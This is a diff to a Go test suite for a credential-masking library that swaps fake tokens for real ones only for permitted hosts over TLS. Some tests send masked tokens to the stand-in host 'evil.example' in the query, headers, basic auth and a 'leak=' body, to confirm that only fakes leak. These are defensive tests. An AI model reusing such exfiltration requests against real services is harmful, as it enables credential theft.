@@ -18,6 +18,9 @@ import (
 )
 
 // only returns a Hosts function allowing exactly the hosts named.
+// tlsTo is a destination over verified TLS.
+func tlsTo(host string) Dest { return Dest{Host: host, Port: 443, TLS: true} }
+
 func only(hosts ...string) func(string) bool {
 	return func(h string) bool {
 		for _, x := range hosts {
@@ -102,7 +105,7 @@ func TestMask(t *testing.T) {
 			keep: `^\{"token": "` + regexp.QuoteMeta(fakeJWTHeader) + `\.[^.]+\.` + fakeSignature + `", "other": "eyJ4\.eHh4\.eA"\}$`, names: []string{"file /c #1"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			s := New(SigV4Policy{})
+			s := New(Options{})
 			tc.rule.Hosts = only("api.example.com")
 			got, err := s.Mask(tc.rule, tc.value)
 			if tc.err != nil {
@@ -124,7 +127,7 @@ func TestMask(t *testing.T) {
 			// (the secrets of tc.value that were masked).
 			req := httptest.NewRequest("POST", "https://api.example.com/", strings.NewReader(got))
 			req.Header.Set("X-Value", strings.ReplaceAll(got, "\n", " "))
-			if err := s.Request(req, "api.example.com"); err != nil {
+			if err := s.Request(req, tlsTo("api.example.com"), nil); err != nil {
 				t.Fatal(err)
 			}
 			body, _ := io.ReadAll(req.Body)
@@ -143,7 +146,7 @@ func TestMask(t *testing.T) {
 // other claims.
 func TestClaimsAlone(t *testing.T) {
 	tok := b64(`{"alg":"HS256"}`) + "." + b64(`{"iss":"ci","key":"claim-secret-0123456789abcdef"}`) + ".c2ln"
-	s := New(SigV4Policy{})
+	s := New(Options{})
 	fake, err := s.Mask(Rule{Name: "env J", JWT: true, Claims: []string{"key"}, Hosts: only("h")}, tok)
 	if err != nil {
 		t.Fatal(err)
@@ -157,7 +160,7 @@ func TestClaimsAlone(t *testing.T) {
 	_ = jsonUnmarshal(ms[1].value, &claimFake)
 	req := httptest.NewRequest("GET", "https://h/", nil)
 	req.Header.Set("X-Key", claimFake)
-	if err := s.Request(req, "h"); err != nil {
+	if err := s.Request(req, tlsTo("h"), nil); err != nil {
 		t.Fatal(err)
 	}
 	if got := req.Header.Get("X-Key"); got != "claim-secret-0123456789abcdef" {
@@ -170,37 +173,48 @@ func TestRequest(t *testing.T) {
 	real := "ghp_" + strings.Repeat("R", 36)
 	other := "sk-" + strings.Repeat("O", 40)
 	short := "pw"
-	setup := func() (*Set, string, string, string, *[]Event) {
-		s := New(SigV4Policy{})
-		var evs []Event
-		s.OnEvent = func(e Event) { evs = append(evs, e) }
+	setupWith := func(o Options) (*Set, string, string, string) {
+		s := New(o)
 		f1, _ := s.Mask(Rule{Name: "env GH", Hosts: only("api.github.com")}, real)
 		f2, _ := s.Mask(Rule{Name: "env OAI", Hosts: only("api.openai.com")}, other)
 		f3, _ := s.Mask(Rule{Name: "env PW", Hosts: only("api.github.com")}, short)
-		return s, f1, f2, f3, &evs
+		return s, f1, f2, f3
 	}
+	setup := func() (*Set, string, string, string) { return setupWith(Options{}) }
+	// request sends req to d and returns the events it reported.
+	request := func(t *testing.T, s *Set, req *http.Request, d Dest) []Event {
+		t.Helper()
+		var evs []Event
+		if err := s.Request(req, d, func(e Event) { evs = append(evs, e) }); err != nil {
+			t.Fatal(err)
+		}
+		if req.Body != nil {
+			b, _ := io.ReadAll(req.Body)
+			req.Body = io.NopCloser(bytes.NewReader(b))
+		}
+		return sortEvents(evs)
+	}
+	gh := tlsTo("api.github.com")
 	t.Run("headers", func(t *testing.T) {
-		s, f1, f2, _, evs := setup()
+		s, f1, f2, _ := setup()
 		req := httptest.NewRequest("GET", "https://api.github.com/?q=1", nil)
 		req.Header.Set("Authorization", "token "+f1)
 		req.Header.Add("X-A", "a "+f1+" b "+f1)
 		req.Header.Set("X-Other", f2)
-		if err := s.Request(req, "api.github.com"); err != nil {
-			t.Fatal(err)
-		}
+		evs := request(t, s, req, gh)
 		want := http.Header{"Authorization": {"token " + real}, "X-A": {"a " + real + " b " + real}, "X-Other": {f2}}
 		if diff := cmp.Diff(want, req.Header); diff != "" {
 			t.Errorf("headers (-want +got):\n%s", diff)
 		}
-		if diff := cmp.Diff([]Event{{"api.github.com", "env GH", true}, {"api.github.com", "env OAI", false}}, sortEvents(*evs)); diff != "" {
+		if diff := cmp.Diff([]Event{{Dest: gh, Name: "env GH", Own: true, Substituted: true}, {Dest: gh, Name: "env OAI"}}, evs); diff != "" {
 			t.Errorf("events (-want +got):\n%s", diff)
 		}
 	})
 	t.Run("basic credentials", func(t *testing.T) {
-		s, f1, _, _, _ := setup()
+		s, f1, _, _ := setup()
 		req := httptest.NewRequest("GET", "https://api.github.com/", nil)
 		req.SetBasicAuth("x-access-token", f1)
-		if err := s.Request(req, "api.github.com"); err != nil {
+		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
 			t.Fatal(err)
 		}
 		if u, p, _ := req.BasicAuth(); u != "x-access-token" || p != real {
@@ -208,44 +222,70 @@ func TestRequest(t *testing.T) {
 		}
 	})
 	t.Run("other host gets the fake", func(t *testing.T) {
-		s, f1, _, _, evs := setup()
+		s, f1, _, _ := setup()
 		req := httptest.NewRequest("POST", "https://evil.example/?k="+f1, strings.NewReader("t="+f1))
 		req.SetBasicAuth("u", f1)
 		req.Header.Set("X-T", f1)
-		if err := s.Request(req, "evil.example"); err != nil {
-			t.Fatal(err)
-		}
+		evs := request(t, s, req, tlsTo("evil.example"))
 		body, _ := io.ReadAll(req.Body)
 		if _, p, _ := req.BasicAuth(); p != f1 || req.Header.Get("X-T") != f1 || string(body) != "t="+f1 || req.URL.RawQuery != "k="+f1 {
 			t.Errorf("sent to another host: %v %q %q", req.Header, body, req.URL.RawQuery)
 		}
-		if diff := cmp.Diff([]Event{{"evil.example", "env GH", false}}, *evs); diff != "" {
+		if diff := cmp.Diff([]Event{{Dest: tlsTo("evil.example"), Name: "env GH"}}, evs); diff != "" {
 			t.Errorf("events (-want +got):\n%s", diff)
 		}
 	})
+	t.Run("a fake in the body alone is reported", func(t *testing.T) {
+		s, _, f2, _ := setup()
+		req := httptest.NewRequest("POST", "https://evil.example/", strings.NewReader("leak="+f2))
+		evs := request(t, s, req, tlsTo("evil.example"))
+		if diff := cmp.Diff([]Event{{Dest: tlsTo("evil.example"), Name: "env OAI"}}, evs); diff != "" {
+			t.Errorf("events (-want +got):\n%s", diff)
+		}
+	})
+	for _, tc := range []struct {
+		name      string
+		plaintext bool
+	}{{"plain HTTP: the fake stays", false}, {"plain HTTP with allowPlaintextInject: the real value", true}} {
+		t.Run(tc.name, func(t *testing.T) {
+			s, f1, _, _ := setupWith(Options{Plaintext: tc.plaintext})
+			req := httptest.NewRequest("POST", "http://api.github.com/?k="+f1, strings.NewReader("t="+f1))
+			req.Header.Set("Authorization", "token "+f1)
+			plain := Dest{Host: "api.github.com", Port: 80}
+			evs := request(t, s, req, plain)
+			want := f1
+			if tc.plaintext {
+				want = real
+			}
+			body, _ := io.ReadAll(req.Body)
+			if req.Header.Get("Authorization") != "token "+want || string(body) != "t="+want || req.URL.RawQuery != "k="+want {
+				t.Errorf("sent %q, %q, %q; want %q in each", req.Header.Get("Authorization"), body, req.URL.RawQuery, want)
+			}
+			if diff := cmp.Diff([]Event{{Dest: plain, Name: "env GH", Own: true, Substituted: tc.plaintext}}, evs); diff != "" {
+				t.Errorf("events (-want +got):\n%s", diff)
+			}
+		})
+	}
 	t.Run("query", func(t *testing.T) {
-		s, _, _, f3, _ := setup()
-		s2 := New(SigV4Policy{})
+		s2 := New(Options{})
 		fq, _ := s2.Mask(Rule{Name: "env Q", Hosts: only("h")}, "a+b/c=d&e")
 		req := httptest.NewRequest("GET", "https://h/?key="+fq+"&x=1", nil)
-		if err := s2.Request(req, "h"); err != nil {
+		if err := s2.Request(req, tlsTo("h"), nil); err != nil {
 			t.Fatal(err)
 		}
 		if got := req.URL.Query().Get("key"); got != "a+b/c=d&e" {
 			t.Errorf("query key %q", got)
 		}
-		_ = s
-		_ = f3
 	})
 	t.Run("body across reads, length kept", func(t *testing.T) {
 		// (every secret for the host of the length of its fake: a body
 		// keeps its length)
-		s := New(SigV4Policy{})
+		s := New(Options{})
 		f1, _ := s.Mask(Rule{Name: "env GH", Hosts: only("api.github.com")}, real)
 		in := strings.Repeat("z", 5000) + f1 + "|" + f1 + strings.Repeat("y", 3)
 		req := httptest.NewRequest("PUT", "https://api.github.com/", iotest.OneByteReader(strings.NewReader(in)))
 		req.ContentLength = int64(len(in))
-		if err := s.Request(req, "api.github.com"); err != nil {
+		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
 			t.Fatal(err)
 		}
 		body, _ := io.ReadAll(req.Body)
@@ -257,10 +297,10 @@ func TestRequest(t *testing.T) {
 		}
 	})
 	t.Run("body length changes", func(t *testing.T) {
-		s, _, _, f3, _ := setup()
+		s, _, _, f3 := setup()
 		req := httptest.NewRequest("POST", "https://api.github.com/", strings.NewReader(`{"pw":"`+f3+`"}`))
 		req.Header.Set("Content-Length", "999")
-		if err := s.Request(req, "api.github.com"); err != nil {
+		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
 			t.Fatal(err)
 		}
 		body, _ := io.ReadAll(req.Body)
@@ -269,7 +309,7 @@ func TestRequest(t *testing.T) {
 		}
 	})
 	t.Run("compressed body left alone", func(t *testing.T) {
-		s, f1, _, _, _ := setup()
+		s, f1, _, _ := setup()
 		var z bytes.Buffer
 		w := gzip.NewWriter(&z)
 		w.Write([]byte(f1))
@@ -277,7 +317,7 @@ func TestRequest(t *testing.T) {
 		raw := z.Bytes()
 		req := httptest.NewRequest("POST", "https://api.github.com/", bytes.NewReader(raw))
 		req.Header.Set("Content-Encoding", "gzip")
-		if err := s.Request(req, "api.github.com"); err != nil {
+		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
 			t.Fatal(err)
 		}
 		body, _ := io.ReadAll(req.Body)
@@ -306,7 +346,7 @@ func TestReplacer(t *testing.T) {
 	for _, in := range []string{"", "FAKEONE", "xFAKEONEFAKETWO2y", "FAKEON", "FAKEFAKEONE", strings.Repeat("FAKETWO", 5) + "2", "FAKEONFAKEONE KEEP"} {
 		want := strings.NewReplacer("FAKEONE", "r1", "FAKETWO2", "real-two").Replace(in)
 		for _, r := range []io.Reader{strings.NewReader(in), iotest.OneByteReader(strings.NewReader(in)), iotest.HalfReader(strings.NewReader(in))} {
-			got, err := io.ReadAll(newReplacer(r, pairs, func(*Secret) {}))
+			got, err := io.ReadAll(newReplacer(r, pairs, func(pair) {}))
 			if err != nil || string(got) != want {
 				t.Errorf("%q: got %q (%v), want %q", in, got, err, want)
 			}
@@ -316,7 +356,7 @@ func TestReplacer(t *testing.T) {
 
 func TestBasicMalformed(t *testing.T) {
 	pairs := []pair{{[]byte("F"), []byte("R"), &Secret{}}}
-	ev := &events{set: New(SigV4Policy{})}
+	ev := &events{}
 	for _, v := range []string{"Basic", "Basic !!!", "Bearer F", "basic " + base64.StdEncoding.EncodeToString([]byte("u:F"))} {
 		got := basic(v, pairs, ev)
 		if strings.HasPrefix(v, "basic ") {
